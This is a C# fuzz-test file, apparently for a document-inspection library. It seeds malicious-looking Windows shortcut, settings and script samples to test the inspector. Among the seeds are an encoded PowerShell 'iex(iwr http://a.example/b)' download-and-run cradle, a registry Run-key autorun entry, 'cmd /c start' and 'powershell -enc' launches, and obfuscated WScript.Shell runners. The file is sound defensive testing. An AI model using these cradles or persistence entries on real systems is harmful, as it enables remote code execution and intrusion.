using System.Text;
using Bezel.Documents.Tests;

namespace Bezel.Fuzz.Tests;

public class ShortcutTargets
{
    [Fact]
    public void Shortcuts() => FuzzRun.Of("shortcut",
        [
            ShortcutSamples.Link(["C:\\", "Windows", "System32", "cmd.exe"], local: "C:\\Windows\\System32\\cmd.exe", share: "\\\\a.example\\b", relative: ".\\cmd.exe", arguments: "/c start http://a.example/x", icon: "shell32.dll", name: "Bill", folder: "C:\\", environment: "%windir%\\cmd.exe", machine: "shop", show: 7, hotKey: 0x641),
            ShortcutSamples.Link(["C:\\", "a.exe"], arguments: "-enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes("iex(iwr http://a.example/b)")), after: SampleFiles.Zip(("a.txt", "hello"))),
            [2, 0, 0, 0, 1, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, .. ShortcutSamples.Link(["C:\\", "one.exe"], unicode: false, relative: "x")],
        ],
        ["\x4C\0\0\0\x01\x14\x02\0", "\xFF\xFF", "\xFF\xFF\xFF\xFF", "\x01\0\0\xA0", "\x09\0\0\xA0", "1SPS", "\x04\0\xEF\xBE", "\0\0\0\0", "powershell -enc ", "cmd /c "], DocumentTargets.Inspect);

    [Fact]
    public void Settings() => FuzzRun.Of("settings",
        [
            "[InternetShortcut]\r\nURL=file://a.example/b.exe\r\nIconFile=\\\\a.example\\i.ico\r\n"u8.ToArray(), "full address:s:a.example\r\nalternate shell:s:b.exe\r\n"u8.ToArray(),
            "Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"cmd /c a\"\r\n"u8.ToArray(),
            "<?xml version=\"1.0\"?><PCSettings><DeepLink>cmd.exe /c calc</DeepLink></PCSettings>"u8.ToArray(), "<?xml version=\"1.0\"?><libraryDescription><url>\\\\a.example\\b</url></libraryDescription>"u8.ToArray(),
            "[Version]\r\nSignature=\"$x$\"\r\n[RunPre]\r\nrundll32 a,b\r\n"u8.ToArray(), "<?xml version=\"1.0\"?><jnlp codebase=\"http://a.example\"><b/></jnlp>"u8.ToArray(),
        ],
        ["[autorun]\n", "[Shell]\nCommand=", "open=", "URL=", "<DeepLink>", "</DeepLink>", "<url>", "<![CDATA[", "codebase=\"", "&#0;", "WEB\n1\n"], DocumentTargets.Inspect);

    [Fact]
    public void Scripts() => FuzzRun.Of("script",
        [
            "var a='x'+\"\\x41\"+String.fromCharCode(65,0x42); a += a; var s=new ActiveXObject('WScript.Shell'); s.Run(a.split('').reverse().join('')); eval(unescape('%u0041%41')); b=[1,2,'c'][2].replace(/x/g,'y').substr(0,1)"u8.ToArray(),
            "Dim s\r\nSet s = CreateObject(\"WScr\" & Chr(105) & \"pt.Shell\") ' x\r\ns = s & StrReverse(\"abc\") & Mid(\"abc\",2,1) & Replace(\"a\",\"a\",\"b\") _\r\n & Chr(&H41 Xor 2)\r\nEnd Sub\r\n"u8.ToArray(),
            "$a = ('{1}{0}' -f 'b','a') + [char]65 + -join ([char[]](72,73)); IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))) -replace 'x','y' #c\n$env:x = @\"\nhere\n\"@\n<# c #>"u8.ToArray(),
            "@echo off\r\nset \"a=power\"\r\n%a%sh^ell -enc aQBlAHgAIAAxAA== & start http://a.example/%a:~1,2%\r\nset a=%a:o=0%%a%\r\n"u8.ToArray(),
            Encoding.Latin1.GetBytes(ScriptSamples.Encoded("MsgBox \"<Hello>\"\r\n")), "<job><script language=\"VBScript\"><![CDATA[ CreateObject(\"WScript.Shell\").Run \"a\" ]]></script></job>"u8.ToArray(),
        ],
        ["'", "\"", "(", ")", "[", "]", "+", "&", "a+=a;", "a=a+a;", "Chr(", "String.fromCharCode(", ".split('')", ".join(", "-join", "-f", "[char[]]", "FromBase64String(", "atob('", "%a%", "!a!", "^", "#@~^AAAAAA==", "^#~@", "/*", "*/", "//", "\\u{", "`", "@'\n", "<#", "powershell -e ", "eval("], DocumentTargets.Inspect);
}
